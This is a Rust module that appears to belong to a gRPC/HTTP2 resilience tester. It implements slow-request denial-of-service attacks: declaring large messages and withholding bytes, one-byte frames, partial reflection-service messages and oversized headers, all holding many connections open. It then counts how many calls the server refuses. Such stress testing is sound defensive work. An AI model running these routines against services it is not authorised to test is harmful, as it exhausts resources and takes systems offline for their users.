//! Requests that do not end.

use std::sync::Arc;

use bytes::{Buf, Bytes};

use super::Ending;
use crate::raw::{Target, header, send};

const MESSAGES: usize = 800;
const CONNECTIONS: usize = 16;
const LARGE: usize = 1 << 20;
/// Small enough to take of the part of the budget that is kept for small messages.
const SMALL: usize = 60 << 10;
/// Frames of one byte on each connection.
const CRUMBS: usize = 200_000;
/// Messages to the reflection service, and their size: the most that tonic takes by default.
const REFLECTIONS: usize = 800;
const REFLECTED: usize = 4 << 20;
/// Calls that are begun, and the bytes of their long header. A head may have 8 KiB.
const HALVES: usize = 9_600;
const LONG: usize = 6_500;

/// Declares large messages, and sends nothing of them.
pub async fn declared(target: Arc<Target>) -> Ending {
    attack(target, Bytes::copy_from_slice(&header(LARGE))).await
}

/// Sends large messages up to their last byte.
pub async fn large(target: Arc<Target>) -> Ending {
    attack(target, all_but_the_last_byte(LARGE)).await
}

/// Sends many small messages up to their last byte.
pub async fn small(target: Arc<Target>) -> Ending {
    attack(target, all_but_the_last_byte(SMALL)).await
}

fn all_but_the_last_byte(length: usize) -> Bytes {
    [&header(length)[..], &vec![0; length - 1]].concat().into()
}

/// Sends large messages one byte at a time: each takes a frame of its own.
pub async fn crumbs(target: Arc<Target>) -> Ending {
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..CONNECTIONS {
        let mut connection = target.h2(1 << 16).await.map_err(|error| error.to_string())?;
        let Ok((response, mut body)) = connection.begin("ProfileService/UpdateProfile").await else { continue };
        tasks.spawn(async move {
            let mut bytes = Bytes::copy_from_slice(&header(LARGE)).chain(Bytes::from(vec![0; CRUMBS]));
            while bytes.has_remaining() && send(&mut body, bytes.copy_to_bytes(1)).await.is_ok() {}
            (response, body)
        });
    }
    let open = tasks.join_all().await;
    target.hold().await;
    Ok(format!("{} calls were begun", open.len()))
}

/// Declares large messages to the reflection service, and sends a part of each.
pub async fn reflection(target: Arc<Target>) -> Ending {
    let part: Bytes = [&header(REFLECTED)[..], &vec![0; SMALL]].concat().into();
    halves(target, "grpc.reflection.v1.ServerReflection/ServerReflectionInfo", REFLECTIONS, [], part).await
}

/// Begins health checks with a long header.
pub async fn checks(target: Arc<Target>) -> Ending {
    halves(target, "grpc.health.v1.Health/Check", HALVES, [("x".into(), "y".repeat(LONG))], Bytes::new()).await
}

/// Begins lookups with a long header.
pub async fn lookups(target: Arc<Target>) -> Ending {
    halves(target, "ProfileService/GetProfile", HALVES, [("x".into(), "y".repeat(LONG))], Bytes::new()).await
}

/// Begins as many calls, and sends only a part of each message.
async fn halves<H>(target: Arc<Target>, method: &str, calls: usize, headers: H, part: Bytes) -> Ending
where
    H: IntoIterator<Item = (String, String)> + Clone,
{
    let mut open = Vec::new();
    let mut begun = 0;
    for _ in 0..CONNECTIONS {
        let mut connection = target.h2(1 << 16).await.map_err(|error| error.to_string())?;
        for _ in 0..calls / CONNECTIONS {
            let Ok((response, mut body)) = connection.begin_with(method, headers.clone()).await else { break };
            begun += 1;
            if part.is_empty() || send(&mut body, part.clone()).await.is_ok() {
                open.push((response, body));
            }
        }
    }
    target.hold().await;
    Ok(format!("{begun} calls were begun"))
}

async fn attack(target: Arc<Target>, bytes: Bytes) -> Ending {
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..CONNECTIONS {
        let mut connection = target.h2(1 << 16).await.map_err(|error| error.to_string())?;
        for _ in 0..MESSAGES / CONNECTIONS {
            let Ok((response, mut body)) = connection.begin("ProfileService/UpdateProfile").await else {
                break; // The connection was closed: that is one way to end it.
            };
            let (bytes, target) = (bytes.clone(), Arc::clone(&target));
            tasks.spawn(async move {
                tokio::select! {
                    () = target.enough.cancelled() => false,
                    // The rest of a refused message is not taken. An error is a reset.
                    _ = async { tokio::join!(send(&mut body, bytes), response).1 } => true,
                }
            });
        }
    }
    target.hold().await;
    let ended = tasks.join_all().await.into_iter().filter(|ended| *ended).count();
    Ok(format!("{ended} of {MESSAGES} calls were refused so far"))
}
